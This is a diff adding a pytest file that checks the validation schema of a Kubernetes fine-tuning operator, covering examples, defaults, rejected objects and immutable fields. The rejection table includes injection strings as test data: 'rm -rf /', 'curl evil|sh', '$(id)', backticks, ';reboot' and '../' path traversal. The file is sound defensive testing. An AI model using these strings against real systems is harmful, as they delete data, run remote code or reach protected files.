@@ -1,0 +1,180 @@
+"""Examples validate; a table of bad objects is rejected by the schema or the CEL rules, naming the field."""
+
+import copy
+from pathlib import Path
+
+import pytest
+import yaml
+
+from kubetune_operator.api import EvalRun, FineTuneJob, PreferenceDataset
+from kubetune_operator.api.validation import check, validate
+from kubetune_operator.errors import ValidationFailed
+
+ROOT = Path(__file__).resolve().parents[4]
+EXAMPLES = sorted((ROOT / "examples").rglob("*.yaml"))
+
+
+def load(name: str) -> dict:
+    return yaml.safe_load((ROOT / "examples" / name).read_text())
+
+
+def documents():
+    for path in EXAMPLES:
+        for index, document in enumerate(yaml.safe_load_all(path.read_text())):
+            if document is not None:
+                yield pytest.param(document, id=f"{path.relative_to(ROOT)}#{index}")
+
+
+@pytest.mark.parametrize("document", documents())
+def test_every_example_validates(document):
+    assert check(document) == []
+    assert type(validate(document)) in (PreferenceDataset, FineTuneJob, EvalRun)
+
+
+def test_examples_exist_for_every_kind_and_the_chained_pipeline():
+    kinds = {yaml.safe_load(p.read_text())["kind"] for p in EXAMPLES}
+    assert kinds == {"PreferenceDataset", "FineTuneJob", "EvalRun"}
+    pipeline = [yaml.safe_load(p.read_text()) for p in sorted((ROOT / "examples" / "pipeline").glob("*.yaml"))]
+    dpo = next(d for d in pipeline if d["kind"] == "FineTuneJob" and "startFrom" in d["spec"])
+    assert dpo["spec"]["startFrom"]["fineTuneJob"] in {d["metadata"]["name"] for d in pipeline}
+
+
+def test_defaults_are_applied():
+    job = validate(load("finetunejob.yaml"))
+    assert job.spec.checkpointing.keep == 3
+    assert job.spec.hyperparameters.max_steps == -1
+    assert job.spec.peft.lora.target_modules == ["all-linear"]
+
+
+def setter(path: str, value):
+    def mutate(document):
+        *parents, last = path.split(".")
+        node = document
+        for part in parents:
+            node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
+        if isinstance(node, list):
+            node[int(last)] = value
+        else:
+            node[last] = value
+    return mutate
+
+
+def deleter(path: str):
+    def mutate(document):
+        *parents, last = path.split(".")
+        node = document
+        for part in parents:
+            node = node[int(part)] if isinstance(node, list) else node[part]
+        del node[last]
+    return mutate
+
+
+def both(*mutations):
+    def mutate(document):
+        for mutation in mutations:
+            mutation(document)
+    return mutate
+
+
+PDS, FTJ, EVR = "preferencedataset.yaml", "finetunejob.yaml", "evalrun.yaml"
+SFT_DATA = "pipeline/01-sft-data.yaml"
+
+# (example, mutation, the field the error must name)
+BAD = {
+    "unknown field": (FTJ, setter("spec.learningRate", 0.1), "spec.learningRate"),
+    "unknown nested field": (FTJ, setter("spec.hyperparameters.lr", 0.1), "spec.hyperparameters.lr"),
+    "wrong method enum": (FTJ, setter("spec.method", "ppo"), "spec.method"),
+    "wrong format enum": (PDS, setter("spec.format", "xml"), "spec.format"),
+    "wrong engine enum": (EVR, setter("spec.engine.type", "tgi"), "spec.engine.type"),
+    "negative learning rate": (FTJ, setter("spec.hyperparameters.learningRate", -1e-4), "spec.hyperparameters.learningRate"),
+    "zero learning rate": (FTJ, setter("spec.hyperparameters.learningRate", 0), "spec.hyperparameters.learningRate"),
+    "learning rate as text": (FTJ, setter("spec.hyperparameters.learningRate", "1e-4; rm -rf /"), "spec.hyperparameters.learningRate"),
+    "test fraction above bound": (PDS, setter("spec.split.testFraction", 0.95), "spec.split.testFraction"),
+    "zero nodes": (FTJ, setter("spec.resources.nodes", 0), "spec.resources.nodes"),
+    "too many GPUs per node": (FTJ, setter("spec.resources.gpusPerNode", 64), "spec.resources.gpusPerNode"),
+    "ZeRO stage 1": (FTJ, setter("spec.resources.deepspeed.stage", 1), "spec.resources.deepspeed.stage"),
+    "shell metacharacters in base model URI": (FTJ, setter("spec.baseModel", "s3://models/x;curl evil|sh"), "spec.baseModel"),
+    "command substitution in URI": (FTJ, setter("spec.output.uri", "s3://bucket/$(id)"), "spec.output.uri"),
+    "backticks in source URI": (PDS, setter("spec.llamafactory.datasetInfo", "s3://b/`id`/info.json"), "spec.llamafactory.datasetInfo"),
+    "leading dash in path segment": (FTJ, setter("spec.baseModel", "file://-rf/models"), "spec.baseModel"),
+    "dot-dot in URI": (FTJ, setter("spec.baseModel", "s3://models/../secrets"), "spec.baseModel"),
+    "dot-dot inside a segment": (FTJ, setter("spec.output.uri", "s3://bucket/a..b"), "spec.output.uri"),
+    "unsupported URI scheme": (FTJ, setter("spec.baseModel", "http://example.com/model"), "spec.baseModel"),
+    "leading dash in referenced name": (FTJ, setter("spec.dataset.preferenceDataset", "-repeater"), "spec.dataset.preferenceDataset"),
+    "shell metacharacters in referenced name": (EVR, setter("spec.candidates.1.fineTuneJob", "x;reboot"), "spec.candidates[1].fineTuneJob"),
+    "over-long resource name": (FTJ, setter("metadata.name", "a" * 49), "metadata.name"),
+    "invalid resource name": (FTJ, setter("metadata.name", "Bad_Name"), "metadata.name"),
+    "over-long stratify field": (SFT_DATA, setter("spec.split.stratifyBy", "s" * 64), "spec.split.stratifyBy"),
+    "over-long system prompt": (EVR, setter("spec.testSet.systemPrompt", "x" * 20000), "spec.testSet.systemPrompt"),
+    "missing method": (FTJ, deleter("spec.method"), "spec.method"),
+    "missing base model": (FTJ, deleter("spec.baseModel"), "spec.baseModel"),
+    "missing spec": (FTJ, deleter("spec"), "spec"),
+    "missing candidates": (EVR, deleter("spec.candidates"), "spec.candidates"),
+    "missing dataset kind": (PDS, deleter("spec.kind"), "spec.kind"),
+    "wrong apiVersion": (FTJ, setter("apiVersion", "kubetune.dev/v1"), "apiVersion"),
+    "dataset with both name and uri": (FTJ, setter("spec.dataset.uri", "s3://llm-data/prepared"), "spec.dataset"),
+    "dataset with neither": (FTJ, deleter("spec.dataset.preferenceDataset"), "spec.dataset"),
+    "dpo options on sft": (FTJ, setter("spec.method", "sft"), "spec.dpo"),
+    "offload params without stage 3": (FTJ, both(setter("spec.resources.deepspeed.stage", 2), setter("spec.resources.deepspeed.offloadParams", True)), "spec.resources.deepspeed.offloadParams"),
+    "qlora on CPU": (FTJ, both(setter("spec.peft.type", "qlora"), setter("spec.resources.gpusPerNode", 0), deleter("spec.resources.deepspeed")), "spec.peft.type"),
+    "lora block with full": (FTJ, setter("spec.peft.type", "full"), "spec.peft.lora"),
+    "two baselines": (EVR, setter("spec.candidates.1.baseline", True), "spec.candidates"),
+    "no baseline": (EVR, setter("spec.candidates.0.baseline", False), "spec.candidates"),
+    "duplicate candidate names": (EVR, setter("spec.candidates.1.name", "base"), "spec.candidates"),
+    "gate on unknown metric": (EVR, setter("spec.gates.0.metric", "bleu"), "spec.gates"),
+    "candidate with model and job": (EVR, setter("spec.candidates.1.model", "s3://llm-models/x"), "spec.candidates[1]"),
+    "beam search with sampling": (EVR, setter("spec.engine.temperature", 0.7), "spec.engine.beamWidth"),
+    "tensor parallel on hf": (EVR, setter("spec.engine.type", "hf"), "spec.engine.tensorParallel"),
+    "regex metric without pattern": (EVR, setter("spec.metrics.0.type", "regex"), "spec.metrics[0].pattern"),
+    "llamafactory format without mapping": (PDS, deleter("spec.llamafactory"), "spec.llamafactory"),
+    "sft format on preference data": (PDS, both(setter("spec.format", "defects-raw"), deleter("spec.llamafactory"), setter("spec.sources", [{"uri": "s3://llm-data/x"}])), "spec.kind"),
+    "secret and service account together": (FTJ, setter("spec.storage.serviceAccountName", "trainer"), "spec.storage"),
+    "secret value in a spec": (FTJ, setter("spec.storage.accessKey", "AKIA..."), "spec.storage.accessKey"),
+    "node selector with a bad key": (FTJ, setter("spec.scheduling.nodeSelector", {"bad key!": "x"}), "spec.scheduling.nodeSelector"),
+    "promotion repo with shell text": (EVR, setter("spec.promotion.repository", "https://git.example.com/x;id"), "spec.promotion.repository"),
+    "promotion path escaping the repo": (EVR, setter("spec.promotion.path", "adapters/../../etc"), "spec.promotion.path"),
+}
+
+
+@pytest.mark.parametrize("example, mutate, field", BAD.values(), ids=BAD.keys())
+def test_bad_object_is_rejected_naming_the_field(example, mutate, field):
+    document = load(example)
+    mutate(document)
+    errors = check(document)
+    assert errors, "accepted"
+    assert any(error.path == field for error in errors), [str(e) for e in errors]
+    with pytest.raises(ValidationFailed):
+        validate(document)
+
+
+IMMUTABLE = {
+    "base model changed": (FTJ, setter("spec.baseModel", "s3://llm-models/Qwen2-72B-Instruct"), "spec.baseModel"),
+    "dataset changed": (FTJ, setter("spec.dataset.preferenceDataset", "other"), "spec.dataset"),
+    "method changed": (FTJ, both(setter("spec.method", "sft"), deleter("spec.dpo")), "spec.method"),
+    "start point added": (FTJ, setter("spec.startFrom", {"fineTuneJob": "sft"}), "spec.startFrom"),
+    "peft changed": (FTJ, setter("spec.peft.lora.r", 64), "spec.peft"),
+    "dataset sources changed": (SFT_DATA, setter("spec.sources", [{"uri": "s3://llm-data/other/"}]), "spec.sources"),
+    "eval candidates changed": (EVR, setter("spec.candidates.0.model", "s3://llm-models/other"), "spec.candidates"),
+}
+
+
+@pytest.mark.parametrize("example, mutate, field", IMMUTABLE.values(), ids=IMMUTABLE.keys())
+def test_immutable_field_change_is_rejected_on_update(example, mutate, field):
+    old = load(example)
+    new = copy.deepcopy(old)
+    mutate(new)
+    assert check(new) == [], "the changed object is valid on its own"
+    errors = check(new, old=old)
+    assert any(error.path == field and "immutable" in error.message for error in errors), [str(e) for e in errors]
+
+
+def test_mutable_fields_may_change_on_update():
+    old = load(FTJ)
+    new = copy.deepcopy(old)
+    new["spec"]["suspend"] = True
+    new["spec"]["hyperparameters"]["learningRate"] = 5e-5
+    assert check(new, old=old) == []
+
+
+def test_the_table_is_large_enough():
+    assert len(BAD) + len(IMMUTABLE) >= 30
